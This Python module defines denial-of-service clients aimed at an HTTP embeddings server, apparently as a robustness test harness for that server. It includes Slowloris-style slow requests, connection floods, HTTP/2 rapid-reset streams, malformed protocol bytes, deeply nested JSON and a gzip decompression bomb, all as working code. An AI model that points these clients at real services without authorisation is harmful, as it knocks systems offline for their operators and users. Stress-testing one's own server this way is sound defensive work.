"""Clients that take what they can get from the HTTP port. attackers.py runs them; each is a function of the port's
address, the admin port's and a token."""

from __future__ import annotations

import gzip
import itertools
import json
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from raw import CANCEL, EH, HEADERS, PREFACE, RST_STREAM, SETTINGS, block, frame, u32

SLOW_CONNECTIONS = 300
FLOOD_CONNECTIONS = 8
PIECE_BYTES = 64 << 10


def connect(address: str, *options: tuple[int, int]) -> socket.socket:
    host, port = address.split(":")
    one = socket.socket()
    for name, value in options:
        one.setsockopt(socket.SOL_SOCKET, name, value)
    one.settimeout(2)
    one.connect((host, int(port)))
    return one


def head(token: str, *headers: str, path: str = "/v1/embeddings") -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: a", f"Authorization: Bearer {token}", *headers]
    return "".join(f"{line}\r\n" for line in lines).encode() + b"\r\n"


def asking(token: str, texts: int) -> bytes:
    """A request for so many embeddings in base64."""
    body = json.dumps({"model": "minilm", "input": ["a b"] * texts, "encoding_format": "base64"}).encode()
    return head(token, f"Content-Length: {len(body)}") + body


def trickle(address: str, begin: bytes, pieces: Iterator[bytes]) -> None:
    """Many connections that say a piece now and then. Those that the server has closed come again."""
    open_: list[socket.socket] = []
    while True:
        while len(open_) < SLOW_CONNECTIONS:
            open_.append(connect(address))
            open_[-1].sendall(begin)
        piece = next(pieces)
        for one in list(open_):
            try:
                one.sendall(piece)
            except OSError:
                one.close()
                open_.remove(one)
        time.sleep(0.02)


def pour(address: str, piece: bytes, begin: bytes = b"") -> None:
    """The same bytes as fast as a few connections take them. What is answered is read."""
    open_: dict[socket.socket, bytes] = {}  # and what is to be sent before the next piece
    while True:
        while len(open_) < FLOOD_CONNECTIONS:
            one = connect(address)
            one.setblocking(False)
            open_[one] = begin + piece
        moved = 0
        for one, rest in list(open_.items()):
            try:
                with suppress(BlockingIOError):
                    sent = one.send(rest)
                    open_[one] = rest[sent:] or piece
                    moved += sent
                with suppress(BlockingIOError):
                    if not one.recv(PIECE_BYTES):
                        raise ConnectionResetError
            except OSError:
                one.close()
                del open_[one]
        if not moved:
            time.sleep(0.001)


# ---- each is an attacker


def long_heads(address: str, admin: str, token: str) -> None:
    """Heads of nearly 16 KiB in 100 headers, and such as are longer."""
    headers = [f"X-{i}: {'y' * 100}" for i in range(96)]
    good = head(token, *headers, "Content-Length: 2") + b"{}"
    pour(address, good * 3 + head(token, *headers, *headers))


def gone_clients(address: str, admin: str, token: str) -> None:
    """Connections that end in every way, with requests under way: half, by a reset, in the middle of a body."""
    request = asking(token, 8)
    for i in itertools.count():
        with suppress(OSError):
            one = connect(address)
            one.sendall(request * 3 + request[: len(request) * (i % 7) // 7])
            if i % 3 == 0:
                one.shutdown(socket.SHUT_WR)
            elif i % 3 == 1:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            one.close()


def unread_answers(address: str, admin: str, token: str) -> None:
    """64 connections that ask for megabytes and read nothing."""
    request = asking(token, 64)
    open_ = [connect(address, (socket.SO_RCVBUF, 4096)) for _ in range(64)]
    for one in open_:
        one.setblocking(False)
    for i in itertools.count():
        place = i % len(open_)
        try:
            with suppress(BlockingIOError):
                open_[place].send(request)
        except OSError:
            open_[place].close()
            open_[place] = connect(address, (socket.SO_RCVBUF, 4096))
            open_[place].setblocking(False)
        time.sleep(0.001)


def rapid_resets(address: str, admin: str, token: str) -> None:
    """Requests over HTTP/2 that are taken back at once."""
    names = (":method", ":scheme", ":path", ":authority", "authorization")
    values = ("POST", "http", "/v1/embeddings", "a", f"Bearer {token}")
    opening = block(zip(names, values, strict=True))
    while True:
        with suppress(OSError), connect(address) as one:
            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for first in range(1, 1 << 20, 200):
                pairs = (
                    frame(HEADERS, EH, stream, opening) + frame(RST_STREAM, 0, stream, u32(CANCEL))
                    for stream in range(first, first + 200, 2)
                )
                one.sendall(b"".join(pairs))


def garbage(address: str, admin: str, token: str) -> None:
    """Bytes of no protocol, of TLS, and of HTTP/2 that goes wrong."""
    some = random.Random(7)
    for i in itertools.count():
        with suppress(OSError), connect(address) as one:
            begin = (b"", b"\x16\x03\x01\x02\x00\x01", PREFACE, b"GET ", head(token, "Content-Encoding: gzip"))[i % 5]
            one.sendall(begin + some.randbytes(20_000))
            one.recv(4096)


def hostile_bodies(address: str, admin: str, token: str) -> None:
    """JSON that is deep or wide, and bodies that inflate to megabytes."""
    wide = json.dumps({"input": [[5] * 64] * 5000}).encode()
    deep = b'{"input":' + b"[" * 100_000
    bomb = gzip.compress(b'{"input":"' + b"a " * (2 << 20))
    for i in itertools.count():
        body = (wide, deep, bomb)[i % 3]
        coding = ("Content-Encoding: gzip",) if body is bomb else ()
        with suppress(OSError), connect(address) as one:
            one.sendall(head(token, f"Content-Length: {len(body)}", *coding) + body)
            one.recv(4096)


HTTP_ATTACKERS: dict[str, Callable[[str, str, str], None]] = {
    "slow_heads": lambda address, _, token: trickle(
        address, b"POST /v1/embeddings HTTP/1.1\r\nHost: a\r\nX: ", itertools.repeat(b"y")
    ),
    "slow_bodies": lambda address, _, token: trickle(
        address, head(token, "Content-Length: 1000000"), itertools.repeat(b" ")
    ),
    "slow_chunks": lambda address, _, token: trickle(
        address, head(token, "Transfer-Encoding: chunked"), itertools.repeat(b"1\r\n \r\n")
    ),
    # Whole requests, one behind another: a hundred in a piece.
    "pipelined_requests": lambda address, _, token: pour(address, asking(token, 1) * 100),
    # Bodies of megabytes in chunks of one byte.
    "small_chunks": lambda address, _, token: pour(
        address, b"1\r\n \r\n" * 10_000, head(token, "Transfer-Encoding: chunked")
    ),
    **{f.__name__: f for f in (long_heads, gone_clients, unread_answers, rapid_resets, garbage, hostile_bodies)},
}
